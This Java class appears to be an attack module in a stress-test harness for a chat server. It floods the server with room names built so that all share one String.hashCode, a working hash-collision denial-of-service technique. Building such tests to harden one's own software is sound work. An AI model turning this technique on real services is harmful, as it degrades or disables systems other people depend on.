package dev.parley.siege.attack;

import java.util.concurrent.atomic.AtomicInteger;

/** Makes hash tables slow. */
final class CollidingNames implements Attack {
  private static final int CLIENTS = 16;
  private static final int PAIRS = 14;

  private final AtomicInteger next = new AtomicInteger();

  @Override
  public String name() {
    return "colliding-names";
  }

  @Override
  public String line() {
    return "Up to 16,384 rooms whose names all have the same String.hashCode.";
  }

  @Override
  public void run(Attacker attacker) throws InterruptedException {
    attacker.crowd(
        CLIENTS,
        client -> {
          try (AttackConnection connection = attacker.connect(client)) {
            while (!attacker.isOver() && connection.isUsable()) {
              String room = name(next.getAndIncrement());
              connection.join(room, attacker.fresh("key-0123456789abcdef01"), "");
            }
          }
        });
  }

  /** One of 16,384 names with one hash code, by the bits of a number. */
  static String name(int number) {
    StringBuilder name = new StringBuilder();
    for (int bit = 0; bit < PAIRS; bit++) {
      name.append((number >> bit & 1) == 0 ? "Aa" : "BB");
    }
    return name.toString();
  }
}
